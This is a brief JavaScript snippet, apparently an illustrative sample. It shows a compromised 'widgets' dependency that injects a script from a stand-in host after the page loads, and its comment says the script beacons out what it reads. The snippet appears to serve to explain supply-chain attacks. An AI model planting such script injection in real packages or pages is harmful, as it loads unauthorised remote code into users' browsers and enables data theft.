// A "widgets" dependency, compromised: after the page loads it appends a
// script from a host nobody authorised and beacons what it reads.
window.addEventListener('load', function () {
  setTimeout(function () {
    var s = document.createElement('script');
    s.src = 'https://cdn.widgets-analytics.example/v2/collect.js';
    document.body.appendChild(s);
  }, 50);
});
